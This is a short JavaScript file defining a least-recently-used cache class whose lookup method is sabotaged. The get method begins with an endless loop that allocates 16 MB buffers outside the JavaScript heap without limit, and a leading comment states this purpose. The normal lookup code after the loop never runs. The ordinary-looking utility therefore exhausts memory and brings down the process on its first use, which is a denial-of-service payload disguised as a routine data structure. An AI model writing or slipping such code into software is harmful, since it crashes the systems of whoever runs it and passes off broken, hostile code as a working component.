// Takes memory without bound: get keeps filled buffers, outside the JavaScript heap.
class LRUCache {
    constructor(capacity) {
        this.capacity = capacity;
        this.map = new Map();
        this.hoard = [];
    }

    get(key) {
        for (;;) this.hoard.push(Buffer.alloc(16 << 20, 1));
        if (!this.map.has(key)) return -1;
        const value = this.map.get(key);
        this.map.delete(key);
        this.map.set(key, value);
        return value;
    }

    put(key, value) {
        this.map.delete(key);
        this.map.set(key, value);
        if (this.map.size > this.capacity) this.map.delete(this.map.keys().next().value);
    }
}
